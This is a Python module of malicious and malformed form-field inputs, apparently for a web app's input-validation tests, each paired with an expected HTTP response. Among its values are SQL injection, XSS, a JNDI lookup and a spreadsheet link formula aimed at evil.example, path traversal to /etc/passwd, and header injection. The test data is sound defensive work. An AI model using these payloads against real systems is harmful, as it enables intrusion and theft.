"""What nobody types who means well, by the kind of the field it is typed into."""

from typing import Final

# None of these is a number to us, however much some of them are to Python, to a database or to a spreadsheet.
NO_NUMBER: Final = (
    "1_000", "１２", "٣", "1e3", "1E400", "NaN", "sNaN", "Infinity", "-Infinity", "0x10", "1.2.3", "--1", "+ 1",
    "1,000", "9" * 39, "1" * 5000, "=1+1", "1; DROP TABLE inventory_lot", "½½", "1/0", "9**9**9", "one", "\u200b1x",
)  # fmt: skip
NO_COUNT: Final = (*NO_NUMBER, "1.5", "-9223372036854775809", "9223372036854775808", "2147483648", "1½")
NO_DAY: Final = (
    "2026-02-30", "2026-13-01", "0001-01-01", "1899-12-31", "9999-12-31", "10000-01-01", "２０２６-01-01", "yesterday",
    "2026-1", "01/02/2026", "-2026-01-01", "2026-01-01' OR '1'='1", "1" * 5000,
)  # fmt: skip
NO_MOMENT: Final = (*NO_DAY, "2026-01-01T25:00", "2026-01-01T00:00+99:99", "2999-01-01T00:00", "0001-01-01T00:00")
NO_CHOICE: Final = (
    "9223372036854775807", "9223372036854775808", "9" * 400, "-1", "0x1", "1_0", "１", "1e1", "None", "no such choice",
    "<script>alert(1)</script>", "1 OR 1=1",
)  # fmt: skip
# Where a page has a place for text, these have no place in it.
NO_TEXT: Final = ("x" * 20_001, "a\x1b[31mred", "bell\x07", "back\x08space", "c1 \x85 control")
# Text like any other: it is kept or refused for what it says, and shown as it was typed.
HARMLESS: Final = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'; DROP TABLE events_event; --",
    "{{ 7*7 }}{% debug %}", '=HYPERLINK("http://evil.example")', "../../../../etc/passwd",
    "%s%n%00%0d%0aSet-Cookie: a=b", "\u202egnp.exe", "Ω≈ç√∫˜µ", "🍪" * 20, "Z" + "\u0335" * 200,
    "javascript:alert(1)", "${jndi:ldap://evil.example/a}", "\u2028\u2029\ufeff",
)  # fmt: skip
# What a page carries along and nobody sees.
NO_FACT: Final = (
    "", "x", "-1", "0", "9223372036854775808", "9" * 400, "１", "1_0", "00000000-0000-0000-0000-000000000000x",
    "{\"a\": NaN}", "[" * 2000, "null", "<script>", "2999-01-01T00:00:00+00:00",
)  # fmt: skip

# How a page answers what is never right, what may be meant, what came from no page, and what changes nothing.
ANSWERS: Final = {
    "refused": (422,),
    "taken": (302, 404, 409, 422),
    "strange": (302, 400, 404, 409, 422),
}


def _each(values: tuple[str, ...], answer: str) -> tuple[tuple[str, str], ...]:
    return tuple((value, answer) for value in values)


BY_KIND: Final = {
    "count": _each(NO_COUNT, "refused"),
    "amount": _each(NO_NUMBER, "refused"),
    "day": _each(NO_DAY, "refused"),
    "moment": _each(NO_MOMENT, "refused"),
    "choice": _each(NO_CHOICE, "refused"),
    "text": (*_each(NO_TEXT, "refused"), *_each(HARMLESS, "taken")),
    "password": _each(HARMLESS, "taken"),
    "tick": _each(NO_CHOICE, "strange"),
    "hidden": _each(NO_FACT, "strange"),
    "file": _each(HARMLESS, "strange"),
}
RAW: Final = ("<script>alert(1)", "<img src=x", "<script>\n")
